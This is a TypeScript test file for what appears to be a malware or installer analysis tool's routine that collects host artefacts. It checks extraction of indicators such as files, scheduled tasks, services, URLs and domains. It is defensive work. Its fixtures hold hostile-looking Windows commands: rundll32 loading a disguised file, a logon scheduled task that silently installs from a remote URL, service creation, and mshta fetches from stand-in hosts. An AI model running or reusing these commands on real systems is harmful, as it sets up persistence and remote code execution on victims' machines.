import { describe, expect, it } from 'vitest';
import { collectHostArtefacts } from '../../src/report/collect-host-artefacts.js';
import { RULES } from '../../src/rules/catalogue.js';
import { exampleFacts, type RuleExample } from '../../src/rules/example-facts.js';
import { runRules } from '../../src/rules/run-rules.js';

function artefactsOf(example: Omit<RuleExample, 'what'>): string[] {
  const facts = exampleFacts({ what: '', ...example });
  return collectHostArtefacts(facts, runRules(facts, RULES).findings).map(
    ({ kind, value }) => `${kind} ${value}`,
  );
}

describe('collectHostArtefacts', () => {
  it('lists what a bundle leaves on a host', () => {
    const artefacts = artefactsOf({
      holds: [
        { name: 'z.exe', type: 'pe-exe', pe: {}, unzipUtility: {} },
        { name: 'kq.zip', type: 'zip', archive: { encryptedEntryCount: 1 } },
        { name: 'urlmon.7z', in: 'kq.zip', encrypted: true, type: 'unknown' },
        { name: 'other.txt' },
      ],
      runs: [
        'z.exe x -y -pkZ81mfQx -oC:\\kq kq.zip',
        'rundll32 C:\\kq\\urlmon.7z,Start',
        'schtasks /create /tn qzjwxk /sc onlogon /tr "msiexec /q /i http://host.example.net/x7fjq2"',
        'sc create kqsvc binPath= C:\\kq\\s.exe',
      ],
    });
    expect(artefacts).toEqual(
      expect.arrayContaining([
        'file C:\\kq\\urlmon.7z',
        'file ProgramFilesFolder/Example/z.exe',
        'scheduled-task qzjwxk',
        'service kqsvc',
        'url http://host.example.net/x7fjq2',
        'domain host.example.net',
      ]),
    );
    expect(artefacts.filter((artefact) => artefact.includes('other.txt'))).toEqual([]);
    expect(new Set(artefacts).size).toBe(artefacts.length);
  });

  it('lists nothing for a package in which nothing grave was found', () => {
    expect(
      artefactsOf({ runs: ['schtasks /create /tn "Nightly Backup" /tr C:\\x\\b.exe /sc daily'] }),
    ).toEqual([]);
  });

  it('is bounded', () => {
    const runs = Array.from({ length: 3_000 }, (_, index) => `mshta http://host${index}.example.net/a.hta`);
    expect(artefactsOf({ runs }).length).toBeLessThanOrEqual(500);
  });
});
